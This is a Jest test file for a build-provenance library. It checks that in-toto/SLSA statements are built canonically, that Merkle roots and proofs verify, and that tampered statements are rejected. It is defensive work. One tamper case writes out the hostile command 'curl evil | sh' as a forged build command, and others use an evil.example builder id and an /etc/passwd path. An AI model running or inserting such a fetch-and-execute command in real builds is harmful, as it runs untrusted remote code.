import { describe, expect, it } from '@jest/globals';
import { sha256 } from '@noble/hashes/sha2.js';
import {
  BUILD_TYPE,
  buildStatement,
  canonicalJson,
  inputDescriptors,
  inputMerkleLeaves,
  inputMerkleRoot,
  merkleProof,
  parseBuildConfig,
  parsePackageLock,
  parseStatement,
  readOrigin,
  serializeStatement,
  statementInputMerkleRoot,
  verifyMerkleProof,
} from '../../src/provenance/index.js';
import type { ProvenanceStatement, StatementParams } from '../../src/provenance/index.js';
import { fromHex, toHex } from '../../src/util/hex.js';

const te = new TextEncoder();
const integrity = (c: string): string => `sha512-${c.repeat(85)}Q==`;
const deps = parsePackageLock(
  JSON.stringify({
    lockfileVersion: 3,
    packages: {
      '': {},
      'node_modules/zeta': { version: '1.0.0', integrity: integrity('A') },
      'node_modules/@scope/alpha': { version: '2.0.0', integrity: integrity('B') },
    },
  }),
);
const config = parseBuildConfig({
  language: 'node',
  input: { cmd: 'npm ci --offline && npm run build', env: ['NODE_ENV=production'] },
  output: { files: ['dist/*.js'] },
});
const PCR = (c: string): string => c.repeat(96);

function params(over: Partial<StatementParams> = {}): StatementParams {
  return {
    source: {
      commit: 'a'.repeat(40),
      tree: 'b'.repeat(40),
      objectFormat: 'sha1',
      dirty: false,
      repository: 'https://github.com/o/r',
    },
    config,
    workdir: 'examples/app',
    dependencies: deps,
    toolchain: [
      {
        name: 'npm',
        version: '11.0.0',
        sha256: '1'.repeat(64),
        path: '/usr/lib/node_modules/npm/bin/npm-cli.js',
      },
      { name: 'node', version: 'v20.0.0', sha256: '2'.repeat(64), path: '/usr/bin/node' },
    ],
    outputs: [
      { name: 'examples/app/dist/z.js', sha256: '3'.repeat(64) },
      { name: 'examples/app/dist/a.js', sha256: '4'.repeat(64) },
    ],
    image: {
      name: 'tee-compile-node',
      version: '1.0.0',
      language: 'node',
      pcr0: PCR('5'),
      pcr1: PCR('6'),
      pcr2: PCR('7'),
    },
    nonce: fromHex('00112233445566778899aabbccddeeff'),
    isolation: { backend: 'local', network: 'netns' },
    backend: 'local',
    builderVersion: { 'tee-compile': '0.1.0' },
    invocationId: 'inv-1',
    startedOn: new Date('2026-01-01T00:00:00Z'),
    finishedOn: new Date('2026-01-01T00:01:00Z'),
    buildLogSha256: '8'.repeat(64),
    ...over,
  };
}

function mutate(st: ProvenanceStatement, f: (s: ProvenanceStatement) => void): Uint8Array {
  const copy = JSON.parse(canonicalJson(st)) as ProvenanceStatement;
  f(copy);
  return te.encode(canonicalJson(copy));
}

describe('buildStatement', () => {
  const st = buildStatement(params());

  it('when building, it writes an in-toto v1 statement with the SLSA v1 predicate, sorted subjects and our build type', () => {
    expect(st._type).toBe('https://in-toto.io/Statement/v1');
    expect(st.predicateType).toBe('https://slsa.dev/provenance/v1');
    expect(st.predicate.buildDefinition.buildType).toBe(BUILD_TYPE);
    expect(st.subject.map((s) => s.name)).toEqual([
      'examples/app/dist/a.js',
      'examples/app/dist/z.js',
    ]);
    expect(st.predicate.runDetails.builder.id).toBe('https://tee-compile.dev/builders/local/v1');
    expect(st.predicate.buildDefinition.internalParameters.nonce).toBe(
      '00112233445566778899aabbccddeeff',
    );
    expect(st.predicate.buildDefinition.internalParameters.network).toBe('none');
    expect(st.predicate.buildDefinition.externalParameters.workdir).toBe('examples/app');
    expect(st.predicate.runDetails.byproducts).toEqual([
      { name: 'build.log', digest: { sha256: '8'.repeat(64) } },
    ]);
  });

  it('when building, resolvedDependencies list the source, the dependencies by purl, then the toolchain by name', () => {
    const rd = st.predicate.buildDefinition.resolvedDependencies;
    expect(rd[0]).toEqual({
      name: 'source',
      uri: `git+https://github.com/o/r@${'a'.repeat(40)}`,
      digest: { gitCommit: 'a'.repeat(40), gitTree: 'b'.repeat(40) },
    });
    expect(rd.slice(1, 3).map((d) => d.uri)).toEqual([
      'pkg:npm/%40scope/alpha@2.0.0',
      'pkg:npm/zeta@1.0.0',
    ]);
    expect(rd[1]!.digest!.sha512).toMatch(/^[0-9a-f]{128}$/);
    expect(rd.slice(3).map((d) => [d.name, d.annotations?.version])).toEqual([
      ['node', 'v20.0.0'],
      ['npm', '11.0.0'],
    ]);
  });

  it('when building, the Merkle root equals what the host computes from the same inputs (toolchain excluded)', () => {
    const root = inputMerkleRoot(params().source, config, deps, 'examples/app');
    expect(st.predicate.buildDefinition.internalParameters.inputMerkleRoot).toBe(root);
    const other = buildStatement(params({ toolchain: [] }));
    expect(other.predicate.buildDefinition.internalParameters.inputMerkleRoot).toBe(root);
    expect(inputMerkleRoot(params().source, config, deps, '.')).not.toBe(root);
    expect(
      inputMerkleRoot(params().source, { ...config, timeout: 9 }, deps, 'examples/app'),
    ).not.toBe(root);
    expect(inputMerkleRoot(params().source, config, deps.slice(1), 'examples/app')).not.toBe(root);
  });

  it('when a dependency is proven included, its leaf verifies against the recorded root', () => {
    const descriptors = inputDescriptors(params().source, config, deps, 'examples/app');
    expect(descriptors.map((d) => d.name)).toEqual([
      'source',
      'examples/app/build.json',
      '@scope/alpha',
      'zeta',
    ]);
    const leaves = inputMerkleLeaves(descriptors);
    const root = fromHex(st.predicate.buildDefinition.internalParameters.inputMerkleRoot);
    expect(verifyMerkleProof(leaves[3]!, 3, leaves.length, merkleProof(leaves, 3), root)).toBe(
      true,
    );
    expect(new TextDecoder().decode(leaves[1])).toBe(
      `{"digest":{"sha256":"${toHex(sha256(te.encode(canonicalJson(config))))}"},"name":"examples/app/build.json"}`,
    );
  });

  it('when hex parameters come in upper case, it records them in lower case', () => {
    const up = buildStatement(
      params({ nonce: 'ABCDEF01', image: { ...params().image, pcr0: PCR('A') } }),
    );
    expect(up.predicate.buildDefinition.internalParameters.nonce).toBe('abcdef01');
    expect(up.predicate.buildDefinition.internalParameters.image.pcr0).toBe(PCR('a'));
  });

  it('when a parameter is wrong, it refuses with STATEMENT_INVALID naming the field', () => {
    expect(() => buildStatement(params({ outputs: [] }))).toThrowWithCode('STATEMENT_INVALID');
    expect(() => buildStatement(params({ nonce: 'xyz' }))).toThrowWithCode(
      'STATEMENT_INVALID',
      'predicate.buildDefinition.internalParameters.nonce',
    );
    expect(() => buildStatement(params({ backend: 'Nitro!' }))).toThrowWithCode(
      'STATEMENT_INVALID',
    );
    expect(() =>
      buildStatement(params({ outputs: [{ name: '../x', sha256: '3'.repeat(64) }] })),
    ).toThrowWithCode('STATEMENT_INVALID', 'subject.0.name');
    expect(() =>
      buildStatement(
        params({
          outputs: [
            { name: 'a', sha256: '3'.repeat(64) },
            { name: 'a', sha256: '4'.repeat(64) },
          ],
        }),
      ),
    ).toThrowWithCode('STATEMENT_INVALID', 'subject.1.name');
    expect(() => buildStatement(params({ isolation: { when: new Date() } }))).toThrowWithCode(
      'STATEMENT_INVALID',
    );
    expect(() => buildStatement(params({ workdir: '../up' }))).toThrowWithCode(
      'STATEMENT_INVALID',
      'predicate.buildDefinition.externalParameters.workdir',
    );
    expect(() =>
      buildStatement(params({ finishedOn: new Date('2025-01-01T00:00:00Z') })),
    ).toThrowWithCode('STATEMENT_INVALID', 'predicate.runDetails.metadata.finishedOn');
  });
});

describe('serializeStatement and parseStatement', () => {
  const st = buildStatement(params());
  const bytes = serializeStatement(st);

  it('when serialised, it gives RFC 8785 canonical bytes that parse back to the same statement', () => {
    const text = new TextDecoder().decode(bytes);
    expect(text.startsWith('{"_type":"https://in-toto.io/Statement/v1","predicate":{')).toBe(true);
    expect(text).not.toMatch(/\n/);
    expect(parseStatement(bytes)).toEqual(st);
    expect(serializeStatement(parseStatement(bytes))).toEqual(bytes);
  });

  it('when the bytes are the same statement in another form (whitespace, key order, escapes), it refuses with STATEMENT_NOT_CANONICAL', () => {
    const pretty = te.encode(JSON.stringify(st, null, 2));
    expect(() => parseStatement(pretty)).toThrowWithCode('STATEMENT_NOT_CANONICAL');
    const escaped = te.encode(new TextDecoder().decode(bytes).replace('"local"', '"\\u006cocal"'));
    expect(() => parseStatement(escaped)).toThrowWithCode('STATEMENT_NOT_CANONICAL');
    const dup = te.encode(
      new TextDecoder().decode(bytes).replace('{"_type":', '{"_type":"x","_type":'),
    );
    expect(() => parseStatement(dup)).toThrowWithCode('STATEMENT_NOT_CANONICAL');
  });

  it.each([
    ['not UTF-8', new Uint8Array([0x7b, 0xff, 0x7d])],
    ['not JSON', te.encode('{"_type":')],
    ['nested absurdly deep', te.encode('['.repeat(100_000) + ']'.repeat(100_000))],
    ['empty', new Uint8Array(0)],
  ])(
    'when the bytes are %s, it refuses with STATEMENT_INVALID, never a raw SyntaxError',
    (_what, b) => {
      expect(() => parseStatement(b)).toThrowWithCode('STATEMENT_INVALID');
    },
  );

  it.each<[string, (s: ProvenanceStatement) => void, string]>([
    ['an unknown top-level field', (s) => Object.assign(s, { extra: 1 }), ''],
    [
      'another statement type',
      (s) => Object.assign(s, { _type: 'https://in-toto.io/Statement/v0.1' }),
      '_type',
    ],
    [
      'another build type',
      (s) => Object.assign(s.predicate.buildDefinition, { buildType: 'https://x' }),
      'predicate.buildDefinition.buildType',
    ],
    [
      'a bad subject digest',
      (s) => (s.subject[0]!.digest.sha256 = 'XYZ'),
      'subject.0.digest.sha256',
    ],
    ['unsorted subjects', (s) => void s.subject.reverse(), 'subject.1.name'],
    [
      'a network other than none',
      (s) => Object.assign(s.predicate.buildDefinition.internalParameters, { network: 'host' }),
      'predicate.buildDefinition.internalParameters.network',
    ],
    [
      'a short PCR',
      (s) => (s.predicate.buildDefinition.internalParameters.image.pcr0 = 'ab'),
      'predicate.buildDefinition.internalParameters.image.pcr0',
    ],
    [
      'a source descriptor that disagrees with externalParameters',
      (s) =>
        (s.predicate.buildDefinition.resolvedDependencies[0]!.digest!.gitTree = 'c'.repeat(40)),
      'predicate.buildDefinition.resolvedDependencies.0',
    ],
    [
      'a dependency dropped (root no longer matches)',
      (s) => void s.predicate.buildDefinition.resolvedDependencies.splice(1, 1),
      'predicate.buildDefinition.internalParameters.inputMerkleRoot',
    ],
    [
      'a forged root',
      (s) => (s.predicate.buildDefinition.internalParameters.inputMerkleRoot = '0'.repeat(64)),
      'predicate.buildDefinition.internalParameters.inputMerkleRoot',
    ],
    [
      'a config changed after the fact',
      (s) => (s.predicate.buildDefinition.externalParameters.config.input.cmd = 'curl evil | sh'),
      'predicate.buildDefinition.internalParameters.inputMerkleRoot',
    ],
    [
      'an invalid config',
      (s) =>
        Object.assign(s.predicate.buildDefinition.externalParameters.config, { language: 'cobol' }),
      'predicate.buildDefinition.externalParameters.config.language',
    ],
    [
      'dependencies out of order',
      (s) =>
        void s.predicate.buildDefinition.resolvedDependencies.splice(
          1,
          2,
          ...s.predicate.buildDefinition.resolvedDependencies.slice(1, 3).reverse(),
        ),
      'predicate.buildDefinition.resolvedDependencies',
    ],
    [
      'a toolchain entry before a dependency',
      (s) => {
        const rd = s.predicate.buildDefinition.resolvedDependencies;
        rd.splice(1, 0, rd.pop()!);
      },
      'predicate.buildDefinition.resolvedDependencies',
    ],
    [
      'a builder id elsewhere',
      (s) => (s.predicate.runDetails.builder.id = 'https://evil.example/builder'),
      'predicate.runDetails.builder.id',
    ],
    [
      'a bad timestamp',
      (s) => (s.predicate.runDetails.metadata.startedOn = 'yesterday'),
      'predicate.runDetails.metadata.startedOn',
    ],
    ['a subject path that escapes', (s) => (s.subject[0]!.name = '/etc/passwd'), 'subject.0.name'],
  ])(
    'when the statement has %s, it refuses with STATEMENT_INVALID and the failing path',
    (_what, f, path) => {
      let err: unknown;
      try {
        parseStatement(mutate(st, f));
      } catch (e) {
        err = e;
      }
      expect(err).toHaveCode('STATEMENT_INVALID');
      expect((err as { path?: string }).path ?? '').toBe(path);
    },
  );

  it('when a verifier recomputes the root from the statement alone, it gets the recorded root', () => {
    expect(statementInputMerkleRoot(parseStatement(bytes))).toBe(
      st.predicate.buildDefinition.internalParameters.inputMerkleRoot,
    );
  });

  it('when the statement is too large, it is refused before parsing', () => {
    expect(() => parseStatement(new Uint8Array(33 * 1024 * 1024))).toThrowWithCode(
      'STATEMENT_INVALID',
    );
  });
});

describe('readOrigin refusals', () => {
  it('when a byproduct that is not a source origin carries content, it refuses with ORIGIN_INVALID naming it', () => {
    const st = buildStatement(params());
    st.predicate.runDetails.byproducts = [
      ...(st.predicate.runDetails.byproducts ?? []),
      { name: 'extra.txt', content: 'AAAA' },
    ];
    expect(() => readOrigin(st)).toThrowWithCode(
      'ORIGIN_INVALID',
      'predicate.runDetails.byproducts.1',
    );
  });
});
